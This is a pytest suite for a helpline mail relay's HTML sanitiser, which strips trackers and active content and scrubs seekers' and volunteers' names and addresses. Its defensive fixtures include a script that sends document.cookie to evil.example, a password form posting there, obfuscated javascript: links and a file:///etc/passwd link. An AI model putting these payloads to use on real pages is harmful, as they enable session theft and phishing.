"""The HTML part of a relayed mail: nothing active, nothing remote, nobody named."""

from __future__ import annotations

import html
import re
from urllib.parse import unquote

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import mailhandler.core.html as html_module
from mailhandler.core.html import html_to_text, sanitise_html, scrub_html
from mailhandler.core.scrub import Identity

HELPLINE = "hulp@lumi.example"
HELPLINE_NAME = "Lumi"
NOTE = "[afbeelding verwijderd]"
SEEKER = Identity(addresses=("sam.peeters@thuis.example",), names=("Sam Peeters",))
VOLUNTEER = Identity(
    addresses=("vera.verstraete@vrijwilliger.test", "c.k7q2abcdefgh@lumi.example"),
    names=("Vera Verstraete", "Gesprek K7Q2 via Lumi"),
)


def sanitise(markup: str, cids: frozenset[str] = frozenset()) -> str:
    return sanitise_html(markup, cids, NOTE)


def scrub(markup: str, who: Identity = SEEKER) -> str:
    return scrub_html(markup, who, HELPLINE, HELPLINE_NAME)


def relay(markup: str, who: Identity = SEEKER, cids: frozenset[str] = frozenset()) -> str:
    return scrub(sanitise(markup, cids), who)


def visible(markup: str) -> str:
    """Everything a reader (or a careless decoder) could find in `markup`, lowercased."""
    return "\n".join(
        form.lower()
        for form in (
            markup,
            html.unescape(markup),
            unquote(markup),
            unquote(html.unescape(markup)),
            html.unescape(unquote(markup)),
        )
    )


def tags(markup: str) -> set[str]:
    return set(re.findall(r"<([a-z0-9]+)", markup))


def attributes(markup: str) -> set[str]:
    return set(re.findall(r"\s([a-z-]+)=", markup))


# --------------------------------------------------------------------------- images


def test_tracking_pixel_vanishes_without_a_note() -> None:
    markup = (
        '<p>Hallo</p><img src="https://mail.tracker.example/o/abc123" width="1" height="1" '
        'alt="" style="display:block">'
    )
    assert sanitise(markup) == "<p>Hallo</p>"


def test_tracking_pixel_sized_by_style_vanishes_without_a_note() -> None:
    markup = '<div>Hoi<img src="https://news.example/img/a.png" style="width:1px;height:1px"></div>'
    assert sanitise(markup) == "<div>Hoi</div>"


def test_known_tracker_urls_vanish_without_a_note() -> None:
    for url in (
        "https://u123.ct.sendgrid.example/wf/open?upn=abc",
        "https://list.example/track/open.php?u=1&id=2",
        "http://news.example/pixel.gif",
        "https://x.example/spacer.gif",
        "https://mail.example/beacon/abc",
    ):
        assert sanitise(f'<p>tekst<img src="{url}"></p>') == "<p>tekst</p>", url


def test_hidden_image_vanishes_without_a_note() -> None:
    assert sanitise('<p>a<img src="https://x.example/a.png" style="display: none"></p>') == (
        "<p>a</p>"
    )


def test_remote_image_is_replaced_by_a_note() -> None:
    out = sanitise('<p>Kijk:<img src="https://foto.example/zee.jpg" alt="zee"> mooi hè</p>')
    assert "foto.example" not in out and "<img" not in out
    assert NOTE in out
    assert html_to_text(out) == f"Kijk: {NOTE} mooi hè\n"


@pytest.mark.parametrize(
    "src",
    [
        "http://foto.example/a.png",
        "//foto.example/a.png",
        " HTTPS://foto.example/a.png",
        "data:image/jpeg;base64,/9j/4AAQSkZJRgABAQ==",
        "image001.png",
        "ftp://foto.example/a.png",
        "java\tscript:alert(1)",
    ],
)
def test_every_image_that_is_not_inline_is_removed_with_a_note(src: str) -> None:
    out = sanitise(f'<div><img src="{src}" width="200" height="100"></div>')
    assert out == f"<div> {NOTE} </div>"


def test_inline_cid_image_is_kept() -> None:
    markup = '<p><img src="cid:image001.png@01DB4E2A.5C0F1A20" alt="tekening" width="320"></p>'
    out = sanitise(markup, frozenset({"image001.png@01DB4E2A.5C0F1A20"}))
    assert out == markup


def test_inline_cid_is_matched_with_or_without_angle_brackets_and_percent_encoding() -> None:
    markup = '<img src="cid:part1.A%40x.example">'
    assert "<img" in sanitise(markup, frozenset({"<part1.A@x.example>"}))


def test_cid_image_not_carried_by_the_mail_is_removed_with_a_note() -> None:
    out = sanitise('<img src="cid:elders@x.example">', frozenset({"image001.png@x"}))
    assert out == f" {NOTE} "


def test_a_row_of_removed_images_gets_one_note() -> None:
    out = sanitise(
        '<div><img src="https://a.example/1.jpg">\n<img src="https://a.example/2.jpg">'
        '<img src="https://a.example/3.jpg"></div>'
    )
    assert out.count(NOTE) == 1


def test_picture_source_video_and_audio_are_gone() -> None:
    out = sanitise(
        "<p>voor</p>"
        '<picture><source srcset="https://a.example/x.webp" type="image/webp">'
        '<img src="https://a.example/x.jpg" alt="x"></picture>'
        '<video src="https://a.example/v.mp4" poster="https://a.example/p.jpg">'
        '<source src="https://a.example/v.webm">Je browser kan geen video tonen.</video>'
        '<audio controls src="https://a.example/a.mp3"></audio>'
        "<p>na</p>"
    )
    assert "a.example" not in out
    assert tags(out) == {"p"}
    assert "video tonen" not in out


def test_css_background_images_are_gone() -> None:
    out = sanitise(
        '<table background="https://a.example/bg.png"><tr>'
        '<td style="background-image:url(https://a.example/bg.png)">tekst</td></tr></table>'
        "<style>body { background: url('https://a.example/b.png') }</style>"
        '<div style="background:url(//a.example/c.png)">meer</div>'
    )
    assert "a.example" not in out and "url(" not in out
    assert "tekst" in out and "meer" in out


# --------------------------------------------------------------------------- active content


def test_script_form_iframe_and_event_handlers_are_removed() -> None:
    out = sanitise(
        "<script>document.location='https://evil.example/?'+document.cookie</script>"
        '<p onclick="steal()" onmouseover="steal()">Hallo</p>'
        '<img src="cid:a" onerror="steal()">'
        '<form action="https://evil.example/login" method="post">'
        '<input type="password" name="pw"><button type="submit">Inloggen</button></form>'
        '<iframe src="https://evil.example/frame">frame</iframe>'
        '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/e">'
        '<a href="javascript:steal()">klik</a>'
        '<a href=" jav&#x09;ascript:steal()">nog eens</a>'
        '<svg onload="steal()"><image href="https://evil.example/s.png"/></svg>',
        frozenset({"a"}),
    )
    assert "evil.example" not in out
    assert "steal" not in out and "javascript" not in out.lower()
    assert not tags(out) & {"script", "form", "input", "button", "iframe", "object", "embed"}
    assert not {name for name in attributes(out) if name.startswith("on")}
    assert "Hallo" in out and "klik" in out


def test_meta_refresh_base_and_link_are_removed() -> None:
    out = sanitise(
        "<html><head>"
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">'
        '<base href="https://evil.example/">'
        '<link rel="stylesheet" href="https://evil.example/s.css">'
        "<title>Onderwerp</title></head><body><p>Tekst</p></body></html>"
    )
    assert out == "<p>Tekst</p>"


def test_comments_and_outlook_conditional_blocks_are_stripped() -> None:
    out = sanitise(
        "<!--[if gte mso 9]><xml><o:OfficeDocumentSettings><o:AllowPNG/>"
        "</o:OfficeDocumentSettings></xml><![endif]-->"
        '<p class="MsoNormal">Dag<o:p></o:p></p><!-- verborgen opmerking -->'
    )
    assert out == "<p>Dag</p>"


def test_style_class_and_id_are_dropped_everywhere() -> None:
    out = sanitise(
        '<div id="divRplyFwdMsg" class="x" style="color:red" dir="ltr">'
        '<span style="font-family:Calibri" lang="NL">tekst</span></div>'
    )
    assert out == "<div><span>tekst</span></div>"


def test_links_keep_only_safe_schemes_and_get_noopener_noreferrer() -> None:
    out = sanitise(
        '<a href="https://hulp.example/info" target="_blank">info</a> '
        '<a href="mailto:iemand@x.example">mail</a> '
        '<a href="cid:image001">cid</a> <a href="/relatief">rel</a> '
        '<a href="file:///etc/passwd">file</a> <a href="data:text/html,x">data</a>'
    )
    assert '<a href="https://hulp.example/info" rel="noopener noreferrer">info</a>' in out
    assert '<a href="mailto:iemand@x.example" rel="noopener noreferrer">mail</a>' in out
    assert out.count("href=") == 2
    assert "target" not in out


def test_allowed_formatting_and_tables_survive() -> None:
    markup = (
        "<h2>Titel</h2><p><b>vet</b> <i>schuin</i> <u>onder</u> <s>weg</s> "
        "<sub>1</sub><sup>2</sup> <small>klein</small> <code>x</code></p>"
        "<blockquote><ul><li>een</li></ul><ol><li>twee</li></ol></blockquote><hr>"
        '<table><thead><tr><th colspan="2">kop</th></tr></thead>'
        '<tbody><tr><td rowspan="2">a</td><td>b</td></tr></tbody></table><pre>  vast</pre>'
    )
    assert sanitise(markup) == markup


def test_sizes_must_be_numbers() -> None:
    out = sanitise(
        '<table><tr><td colspan="x2" rowspan="3">a</td></tr></table>'
        '<img src="cid:a" width="javascript:1" height="50">',
        frozenset({"a"}),
    )
    assert "colspan" not in out and 'rowspan="3"' in out
    assert "width" not in out and 'height="50"' in out


def test_sanitising_twice_changes_nothing() -> None:
    markup = (
        '<div>Hoi <img src="https://a.example/x.jpg"><img src="cid:a" alt="x">'
        '<a href="https://a.example">a &amp; b</a> &lt;tag&gt;</div>'
    )
    once = sanitise(markup, frozenset({"a"}))
    assert sanitise(once, frozenset({"a"})) == once


# --------------------------------------------------------------------------- scrub_html

GMAIL_NL = (
    '<div dir="ltr">Hoi Sam,<div><br></div><div>Wat fijn dat je schrijft.</div></div><br>'
    '<div class="gmail_quote"><div dir="ltr" class="gmail_attr">Op ma 30 nov. 2026 om 14:02 '
    'schreef Sam Peeters &lt;<a href="mailto:sam.peeters@thuis.example">'
    "sam.peeters@thuis.example</a>&gt;:<br></div>"
    '<blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex;border-left:1px solid '
    'rgb(204,204,204);padding-left:1ex"><div dir="ltr">Ik weet niet hoe ik het mijn ouders '
    "moet zeggen.<div><br></div><div>Sam</div></div></blockquote></div>"
)


def test_gmail_attribution_split_over_a_link_names_only_the_helpline() -> None:
    out = relay(GMAIL_NL)
    assert "Op ma 30 nov. 2026 om 14:02 schreef Lumi &lt;hulp@lumi.example&gt;:" in out
    assert "sam" not in visible(out) and "peeters" not in visible(out)
    assert "<blockquote><div>Ik weet niet hoe ik het mijn ouders moet zeggen." in out
    assert out.startswith("<div>Hoi Lumi,<div><br></div>")


def test_gmail_english_and_french_attributions_name_only_the_helpline() -> None:
    english = (
        '<div class="gmail_quote"><div dir="ltr" class="gmail_attr">On Mon, Nov 30, 2026 at '
        '2:02\u202fPM Vera Verstraete &lt;<a href="mailto:vera.verstraete@vrijwilliger.test">'
        "vera.verstraete@vrijwilliger.test</a>&gt; wrote:<br></div>"
        '<blockquote class="gmail_quote">Hi</blockquote></div>'
    )
    out = relay(english, VOLUNTEER)
    assert "wrote:" in out and "Lumi &lt;hulp@lumi.example&gt;" in out
    assert "vera" not in visible(out) and "verstraete" not in visible(out)
    french = (
        '<div class="gmail_quote"><div dir="ltr" class="gmail_attr">Le lun. 30 nov. 2026 à '
        '14:02, Camille Dubois &lt;<a href="mailto:camille@maison.example">'
        "camille@maison.example</a>&gt; a écrit\u00a0:<br></div>"
        '<blockquote class="gmail_quote">Bonjour</blockquote></div>'
    )
    out = relay(french, VOLUNTEER)
    # Camille is not who we scrub, but an attribution names nobody but the helpline.
    assert "camille" not in visible(out) and "dubois" not in visible(out)
    assert "a écrit" in html.unescape(out) and "<blockquote>Bonjour</blockquote>" in out


OUTLOOK_DESKTOP_NL = (
    '<div class="WordSection1"><p class="MsoNormal">Dag Sam,<o:p></o:p></p>'
    '<p class="MsoNormal"><o:p>&nbsp;</o:p></p>'
    '<p class="MsoNormal">Dank je voor je bericht.<o:p></o:p></p>'
    '<div><div style="border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0cm 0cm 0cm">'
    '<p class="MsoNormal"><b><span lang="NL">Van:</span></b><span lang="NL"> Sam Peeters '
    "&lt;sam.peeters@thuis.example&gt; <br><b>Verzonden:</b> maandag 30 november 2026 14:02"
    "<br><b>Aan:</b> Robin Claes &lt;robin.claes@vrijwilliger.test&gt;<br>"
    "<b>Onderwerp:</b> vraag<o:p></o:p></span></p></div></div>"
    '<p class="MsoNormal">Ik durf het niet te zeggen.<o:p></o:p></p></div>'
)


def test_outlook_desktop_reply_header_block_reveals_no_name() -> None:
    out = relay(OUTLOOK_DESKTOP_NL)
    text = visible(out)
    for leaked in ("sam", "peeters", "robin", "claes", "thuis.example", "vrijwilliger.test"):
        assert leaked not in text, leaked
    assert (
        "<p>Van: Lumi &lt;hulp@lumi.example&gt;<br>Verzonden: maandag 30 november 2026 14:02"
        "<br>Aan: Lumi &lt;hulp@lumi.example&gt;<br>Onderwerp: vraag</p>"
    ) in out
    assert "<p>Ik durf het niet te zeggen.</p>" in out


def test_outlook_web_reply_header_block_reveals_no_name() -> None:
    markup = (
        '<div dir="ltr">Thanks!</div><div id="appendonsend"></div>'
        '<hr style="display:inline-block;width:98%" tabindex="-1">'
        '<div id="divRplyFwdMsg" dir="ltr"><font face="Calibri, sans-serif" '
        'style="font-size:11pt" color="#000000"><b>From:</b> Vera Verstraete '
        "&lt;vera.verstraete@vrijwilliger.test&gt;<br><b>Sent:</b> Monday, November 30, "
        "2026 2:02 PM<br><b>To:</b> Gesprek K7Q2 via Lumi &lt;c.k7q2abcdefgh@lumi.example&gt;"
        "<br><b>Cc:</b> Jo Coordinator &lt;jo@lumi.example&gt;<br>"
        "<b>Subject:</b> Re: question</font><div>&nbsp;</div></div>"
        "<div>Hello there</div>"
    )
    out = relay(markup, VOLUNTEER)
    text = visible(out)
    for leaked in ("vera", "verstraete", "k7q2", "jo coordinator", "jo@", "vrijwilliger"):
        assert leaked not in text, leaked
    plain = html_to_text(out)
    assert "From: Lumi <hulp@lumi.example>\nSent: Monday, November 30, 2026 2:02 PM\n" in plain
    assert "Subject: Re: question" in plain and "Hello there" in plain


def test_french_outlook_header_block_reveals_no_name() -> None:
    markup = (
        '<div style="border:none;border-top:solid #E1E1E1 1.0pt"><p class="MsoNormal">'
        "<b>De\u00a0:</b> Camille Dubois &lt;camille@maison.example&gt;<br>"
        "<b>Envoyé\u00a0:</b> lundi 30 novembre 2026 14:02<br>"
        "<b>À\u00a0:</b> Vera Verstraete &lt;vera.verstraete@vrijwilliger.test&gt;<br>"
        "<b>Objet\u00a0:</b> question</p></div><p>Bonjour</p>"
    )
    out = relay(markup, VOLUNTEER)
    for leaked in ("camille", "dubois", "vera", "verstraete", "maison.example"):
        assert leaked not in visible(out), leaked
    assert "Objet\u00a0: question" in html.unescape(out) or "Objet : question" in out


def test_outlook_header_block_spread_over_paragraphs_reveals_no_name() -> None:
    markup = (
        "<div><p><b>From: </b>Robin Claes</p><p><b>Sent: </b>Monday</p>"
        "<p><b>To: </b>Sam Peeters</p><p><b>Subject: </b>hoi</p></div>"
    )
    out = relay(markup)
    assert "robin" not in visible(out) and "claes" not in visible(out)
    assert "Subject: hoi" in out


def test_original_message_separator_and_header_lines_reveal_no_name() -> None:
    markup = (
        "<div>Ok.<br><br>-----Original Message-----<br>From: Robin Claes "
        "&lt;robin@x.example&gt;<br>Sent: Monday, 30 November 2026 14:02<br>"
        "To: Sam Peeters &lt;sam.peeters@thuis.example&gt;<br>Subject: test<br><br>"
        "Tekst</div>"
    )
    out = relay(markup)
    assert "robin" not in visible(out) and "peeters" not in visible(out)
    assert "-----Original Message-----" in out and "Tekst" in out


def test_apple_mail_attribution_names_only_the_helpline() -> None:
    markup = (
        '<div dir="ltr"></div><div dir="ltr">Dank je!</div><div dir="ltr"><br>'
        '<blockquote type="cite">Op 30 nov. 2026, om 14:02 heeft Sam Peeters '
        "&lt;sam.peeters@thuis.example&gt; het volgende geschreven:<br><br></blockquote></div>"
        '<blockquote type="cite"><div dir="ltr">Hoi, ik ben het.</div></blockquote>'
    )
    out = relay(markup)
    assert "sam" not in visible(out) and "peeters" not in visible(out)
    assert "heeft Lumi &lt;hulp@lumi.example&gt; het volgende geschreven:" in out
    english = (
        '<div><br><blockquote type="cite"><div>On 30 Nov 2026, at 14:02, Sam Peeters '
        "&lt;sam.peeters@thuis.example&gt; wrote:</div><br "
        'class="Apple-interchange-newline"><div><div>Hi</div></div></blockquote></div>'
    )
    out = relay(english)
    assert "sam" not in visible(out)
    assert "On 30 Nov 2026, at 14:02, Lumi &lt;hulp@lumi.example&gt; wrote:" in out


def test_thunderbird_attribution_names_nobody_even_someone_not_scrubbed() -> None:
    markup = (
        '<p>Goed idee.</p><div class="moz-cite-prefix">Op 30-11-2026 om 14:02 schreef '
        'Robin Claes:<br></div><blockquote type="cite" cite="mid:abc123@x.example">'
        "<p>Mag ik bellen?</p></blockquote>"
    )
    out = relay(markup)
    assert "robin" not in visible(out) and "abc123" not in out
    assert "<div>Op 30-11-2026 om 14:02 schreef Lumi:</div>" in out
    assert "<blockquote><p>Mag ik bellen?</p></blockquote>" in out


def test_mailto_link_to_the_removed_address_points_to_the_replacement() -> None:
    out = relay(
        '<p>Mail <a href="mailto:sam.peeters@thuis.example?subject=Hoi">Sam</a> of '
        '<a href="mailto:Sam.Peeters%40Thuis.Example">hier</a>.</p>'
    )
    assert 'href="mailto:hulp@lumi.example?subject=Hoi"' in out
    assert 'href="mailto:hulp@lumi.example"' in out
    assert "sam" not in visible(out)


def test_entity_encoded_address_is_removed() -> None:
    for encoded in (
        "sam.peeters&#64;thuis.example",
        "sam.peeters&#x40;thuis.example",
        "sam.peeters&commat;thuis.example",
        "sam&#46;peeters&#64;thuis&#x2e;example",
        "&#115;&#97;&#109;.peeters@thuis.example",
    ):
        out = relay(f"<p>Mijn adres: {encoded}</p>")
        assert out == "<p>Mijn adres: hulp@lumi.example</p>", encoded


def test_percent_encoded_address_in_a_link_is_removed() -> None:
    out = relay(
        '<a href="https://nieuws.example/uitschrijven?e=sam.peeters%40thuis.example&amp;t=1">'
        "uitschrijven</a>"
        '<a href="https://nieuws.example/u?e=sam%2Epeeters%2540thuis%2Eexample">twee</a>'
    )
    assert "peeters" not in visible(out)
    assert "hulp@lumi.example" in out and "t=1" in out


def test_name_split_over_tags_is_replaced() -> None:
    out = relay("<p>Groetjes,<br><b>Sam</b> Peeters<br>Sa<i>m Pee</i>ters</p>")
    assert "sam" not in visible(out) and "peeters" not in visible(out)
    assert html_to_text(out) == "Groetjes,\nLumi\nLumi\n"


def test_address_split_over_tags_is_replaced() -> None:
    out = relay(
        "<div>sam.peeters@<span>thuis.example</span> en <b>sam</b>.peeters@thuis.example</div>"
    )
    assert "thuis" not in visible(out) and "peeters" not in visible(out)
    assert html_to_text(out) == "hulp@lumi.example en hulp@lumi.example\n"


def test_names_in_image_alt_texts_are_replaced() -> None:
    out = relay('<img src="cid:foto" alt="Sam Peeters op vakantie">', cids=frozenset({"foto"}))
    assert out == '<img src="cid:foto" alt="Lumi op vakantie">'


def test_name_in_title_attribute_is_replaced_even_in_unsanitised_html() -> None:
    out = scrub('<p><span title="Sam Peeters &lt;sam.peeters@thuis.example&gt;">x</span></p>')
    assert "sam" not in visible(out)


def test_text_without_the_identity_keeps_its_formatting() -> None:
    markup = (
        "<div><p>Hoi <b>Robin</b>, fijn dat je <i>schrijft</i> &amp; vertelt.</p>"
        '<ul><li>een</li><li><a href="https://hulp.example/" rel="noopener noreferrer">'
        "info</a></li></ul></div>"
    )
    assert scrub(markup) == markup


def test_the_helpline_itself_is_not_touched() -> None:
    markup = "<p>Groetjes van Lumi &lt;hulp@lumi.example&gt;</p>"
    assert scrub(markup, VOLUNTEER) == markup


def test_text_that_looks_like_markup_stays_escaped() -> None:
    out = relay("<p>&lt;script&gt;alert(1)&lt;/script&gt; &amp;amp; Sam</p>")
    assert out == "<p>&lt;script&gt;alert(1)&lt;/script&gt; &amp;amp; Lumi</p>"


def test_scrubbed_output_stays_within_the_allowlist() -> None:
    out = scrub(
        '<div onclick="x()" style="color:red"><script>x()</script>'
        '<img src="https://a.example/p.png"><a href="javascript:x()">Sam</a></div>'
    )
    assert tags(out) <= {"div", "a"}
    assert attributes(out) <= {"rel"}
    assert "a.example" not in out and "x()" not in out


def test_scrubbing_twice_changes_nothing() -> None:
    once = relay(GMAIL_NL)
    assert scrub(once) == once
    once = relay(OUTLOOK_DESKTOP_NL)
    assert scrub(once) == once


def test_if_the_careful_path_fails_the_fallback_is_scrubbed_text(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    def broken(*args: object) -> str:
        raise RuntimeError("bug")

    monkeypatch.setattr(html_module, "_scrub", broken)
    monkeypatch.setattr(html_module, "_sanitise", broken)
    markup = (
        "<p>Van: Sam Peeters &lt;sam.peeters@thuis.example&gt;<br>Aan: Robin</p>"
        '<img src="https://a.example/x.png"><script>x()</script>'
    )
    out = scrub(sanitise(markup))
    assert "sam" not in visible(out) and "a.example" not in out and "x()" not in out
    assert tags(out) <= {"br"}


# --------------------------------------------------------------------------- html_to_text


def test_blocks_and_line_breaks_become_lines() -> None:
    markup = (
        "<div>Hoi Robin,</div><div><br></div><div>Eerste regel<br>tweede   regel\n"
        "nog steeds tweede</div><p>Alinea</p><p>Nog een</p>"
    )
    assert html_to_text(markup) == (
        "Hoi Robin,\n\nEerste regel\ntweede regel nog steeds tweede\n\nAlinea\n\nNog een\n"
    )


def test_blockquotes_are_quoted_with_nesting() -> None:
    markup = (
        "<div>Antwoord</div><div>Op ma schreef Lumi:</div>"
        "<blockquote><div>eerste</div><div>tweede</div>"
        "<blockquote><p>diep</p><p>dieper</p></blockquote></blockquote><div>na</div>"
    )
    assert html_to_text(markup) == (
        "Antwoord\nOp ma schreef Lumi:\n> eerste\n> tweede\n>\n> > diep\n> >\n> > dieper\n\nna\n"
    )


def test_list_items_links_and_images() -> None:
    markup = (
        "<ul><li>een</li><li>twee<ul><li>diep</li></ul></li></ul>"
        '<p><a href="https://hulp.example/info">meer info</a>, '
        '<a href="https://hulp.example/">https://hulp.example/</a>, '
        '<a href="hulp.example">hulp.example</a>, '
        '<a href="mailto:hulp@lumi.example">mail ons</a></p>'
        '<p><img src="cid:a" alt="tekening"><img src="cid:b">einde</p>'
    )
    assert html_to_text(markup) == (
        "- een\n- twee\n  - diep\n\n"
        "meer info (https://hulp.example/info), https://hulp.example/, hulp.example, mail ons\n\n"
        "tekeningeinde\n"
    )


def test_entities_are_decoded_and_blank_lines_limited() -> None:
    markup = "<p>a &amp; b &lt;c&gt; caf&eacute;&nbsp;x</p>" + "<br>" * 8 + "<p>z</p>"
    assert html_to_text(markup) == "a & b <c> café x\n\n\nz\n"


def test_preformatted_text_keeps_its_spacing() -> None:
    assert html_to_text("<pre>a   b\n  c</pre>") == "a   b\n  c\n"


def test_scripts_and_styles_never_reach_the_text() -> None:
    markup = "<style>p { color: red }</style><script>alert(1)</script><p>tekst</p>"
    assert html_to_text(markup) == "tekst\n"


def test_outlook_rule_and_header_block_read_like_outlook_plain_text() -> None:
    out = html_to_text(relay(OUTLOOK_DESKTOP_NL))
    assert "Dag Lumi,\n\nDank je voor je bericht.\n" in out
    assert "Van: Lumi <hulp@lumi.example>\nVerzonden: maandag 30 november 2026 14:02\n" in out


# --------------------------------------------------------------------------- properties

_FUZZ_PIECES = st.sampled_from(
    [
        "<",
        ">",
        "</",
        "<div>",
        "</div>",
        "<p>",
        "<br>",
        "<b>",
        "</b>",
        "<blockquote>",
        "</blockquote>",
        "<![",
        "<![if !vml]>",
        "<!--",
        "-->",
        "<!DOCTYPE x>",
        "&",
        "&#",
        "&#64;",
        "&amp;",
        "@",
        "%40",
        '<a href="',
        "mailto:",
        '">',
        "<img src='cid:a' alt='",
        "'>",
        "<table><tr><td>",
        "</td><td>",
        "<pre>",
        "<script>",
        "</script>",
        "<style>",
        "Op ",
        " schreef ",
        "On 1/2/2026 14:02, ",
        " wrote:",
        "Van: ",
        "From: ",
        "Aan: ",
        "To: ",
        "Sam Peeters",
        "sam.peeters@thuis.example",
        "Lumi",
        "\n",
        " ",
        "\r\n",
        "\x00",
        "\ud800",
        "\u00a0",
        "x",
        "-----Original Message-----",
        "<li>",
        "<ul>",
        "<hr>",
        "--",
        "> ",
    ]
)
_FUZZ = st.one_of(st.text(), st.lists(_FUZZ_PIECES | st.text(max_size=5)).map("".join))
_ANY_IDENTITY = st.builds(
    Identity,
    addresses=st.lists(st.text(max_size=20), max_size=3),
    names=st.lists(st.text(max_size=20), max_size=3),
)


@settings(max_examples=300, deadline=None)
@given(_FUZZ, st.frozensets(st.text(max_size=5), max_size=3), st.text(max_size=10))
def test_sanitise_html_never_raises(markup: str, cids: frozenset[str], note: str) -> None:
    # The careful path itself, not only the fallback, copes with every input.
    assert isinstance(html_module._sanitise(markup, cids, note), str)
    assert isinstance(sanitise_html(markup, cids, note), str)


@settings(max_examples=300, deadline=None)
@given(_FUZZ, _ANY_IDENTITY, st.text(max_size=20), st.text(max_size=20))
def test_scrub_html_never_raises(
    markup: str, who: Identity, address_replacement: str, name_replacement: str
) -> None:
    assert isinstance(html_module._scrub(markup, who, address_replacement, name_replacement), str)
    assert isinstance(scrub_html(markup, who, address_replacement, name_replacement), str)


@settings(max_examples=300, deadline=None)
@given(_FUZZ)
def test_html_to_text_never_raises(markup: str) -> None:
    assert isinstance(html_to_text(markup), str)
    assert "\n\n\n\n" not in html_to_text(markup)


_PEOPLE = [
    ("sam.peeters@thuis.example", "Sam Peeters"),
    ("vera_v+hulp@vrijwilliger.test", "Vera Verstraete"),
    ("zoe.janssens@mail.example", "Zoë Janssens"),
    ("robin@x.example", "Robin Declercq"),
]
_WORDS = ["appel", "fiets", "huiswerk", "zomer", "gitaar", "trein", "vriendin", "bos", "kat"]
_INLINE = ["b", "i", "span", "font", "u", "em", "strong", "small"]
_BLOCK = ["div", "p", "blockquote", "li", "td", "h3", "pre"]


@st.composite
def _mail_with_identity(draw: st.DrawFn) -> tuple[str, str, str, list[str]]:
    address, name = draw(st.sampled_from(_PEOPLE))
    first, last = name.split(" ", 1)
    at = draw(st.integers(min_value=1, max_value=len(name) - 1))
    word = draw(st.sampled_from(_WORDS))
    identity_pieces = [
        address,
        address.upper(),
        f"&lt;{address}&gt;",
        address.replace("@", "&#64;"),
        address.replace("@", "&#x40;").replace(".", "&#46;"),
        address.replace("@", "%40"),
        f'<a href="mailto:{address}">{word}</a>',
        f'<a href="mailto:{address.replace("@", "%40")}">{address}</a>',
        f'<a href="https://nieuws.example/u?e={address.replace("@", "%40")}">{word}</a>',
        f'<span title="{address}">{word}</span>',
        f'<span title="{name}">{word}</span>',
        f'<img src="cid:foto@lumi.example" alt="{name}">',
        name,
        name.upper(),
        f"{name} &lt;{address}&gt;",
        f"<b>{first}</b> {last}",
        f"{first} <i>{last}</i>",
        f"{name[:at]}<b>{name[at:]}</b>",
        f"<span>{name[:at]}</span>{name[at:]}",
        f"{first}<br>{last}",
    ]
    pieces = draw(st.lists(st.sampled_from(identity_pieces) | st.sampled_from(_WORDS), min_size=1))
    words = [piece for piece in pieces if piece in _WORDS]
    if word in "".join(pieces):
        words.append(word)
    wrapped = []
    for piece in pieces:
        tag = draw(st.sampled_from([None, *_INLINE, *_BLOCK]))
        wrapped.append(piece if tag is None else f"<{tag}>{piece}</{tag}>")
    separator = draw(st.sampled_from([" ", "\n", "<br>", " &nbsp;"]))
    return separator.join(wrapped), address, name, words


@settings(max_examples=400, deadline=None)
@given(_mail_with_identity())
def test_identity_never_survives_the_relay(mail: tuple[str, str, str, list[str]]) -> None:
    markup, address, name, words = mail
    who = Identity(addresses=(address,), names=(name,))
    out = relay(markup, who, frozenset({"foto@lumi.example"}))
    seen = visible(out)
    assert address.lower() not in seen
    for part in (name, *name.split()):
        assert not re.search(rf"(?<!\w){re.escape(part.lower())}(?!\w)", seen), part
    text = html.unescape(out)
    for word in words:
        assert word in text, word
